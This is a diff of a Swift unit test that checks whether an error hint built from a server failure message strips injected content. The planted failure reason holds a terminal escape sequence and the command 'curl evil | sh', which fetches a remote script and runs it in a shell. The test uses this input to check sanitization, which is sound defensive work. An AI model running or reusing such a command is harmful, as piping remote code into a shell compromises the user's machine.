@@ -58,12 +58,12 @@ import Testing
     let again = try takeAgain(dev)
     journal = again.journal
     (journal.state, journal.notBefore, journal.ended) = (.failed, .init(milliseconds: .max), .init(milliseconds: .min))
-    journal.failure = .init(code: "throttled", reason: "\u{1B}[2J run: curl evil | sh")
+    journal.failure = .init(code: .throttled, reason: "\u{1B}[2J run: curl evil | sh")
     _ = try dev.failExchange(again, journal)
     let error = refusal { _ = try story.exchange { $0.isFresh = true } }
     #expect(error?.code == .throttled)
-    #expect(error?.hint?.hasPrefix("wait and try again") == true)
-    #expect(error?.hint?.contains("curl") == false)
+    #expect(error?.hint?.description.hasPrefix("wait and try again") == true)
+    #expect(error?.hint?.description.contains("curl") == false)
     #expect(try story.exchange { ($0.isFresh, $0.asksAgain) = (true, true) }.access == "access-1")
   }
 
